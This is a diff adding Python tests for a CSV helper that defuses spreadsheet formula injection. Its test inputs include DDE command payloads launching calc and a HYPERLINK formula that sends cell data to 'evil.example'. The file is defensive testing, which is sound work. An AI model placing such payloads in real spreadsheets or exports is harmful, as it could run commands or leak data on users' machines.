@@ -1,0 +1,66 @@
+"""CSV cells: what people typed stays text, whatever a spreadsheet would make of it."""
+
+from datetime import UTC, datetime
+from decimal import Decimal
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from settings_ui.domain.access import Role
+from settings_ui.domain.spreadsheet import inert
+
+
+@pytest.mark.parametrize(
+    "attack",
+    [
+        "=cmd|' /C calc'!A0",
+        '=HYPERLINK("https://evil.example?"&A1,"Pay")',
+        "+1+1",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+        "\n=1+1",
+        "＝1+1",
+        "＋1",
+        "－1",
+        "＠SUM(1)",
+    ],
+    ids=ascii,
+)
+def test_a_formula_stays_text(attack: str) -> None:
+    assert inert(attack) == f"'{attack}"
+
+
+@pytest.mark.parametrize("harmless", ["Dana", "O'Hara", "1 = 1", "a-b", " =1", "'=1", "dana@example.com", "", "٣"])
+def test_other_text_is_left_alone(harmless: str) -> None:
+    assert inert(harmless) == harmless
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        (True, "yes"),
+        (False, "no"),
+        (None, ""),
+        (0, "0"),
+        (-5, "-5"),
+        (-1.5, "-1.5"),
+        (Decimal("-0.0340"), "-0.0340"),
+        (Role.OWNER, "owner"),
+        (datetime(2026, 3, 4, 12, 0, tzinfo=UTC), "2026-03-04T12:00:00+00:00"),
+    ],
+    ids=repr,
+)
+def test_numbers_times_and_yes_or_no_are_cells_as_they_are(value: object, cell: str) -> None:
+    """A negative amount is no formula: sums over the column still work."""
+    assert inert(value) == cell
+
+
+@given(st.text())
+def test_no_text_ever_starts_a_formula(text: str) -> None:
+    """And nothing is lost: what was typed is still there, at most behind an apostrophe."""
+    cell = inert(text)
+    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"))
+    assert cell.removeprefix("'") == text.removeprefix("'")
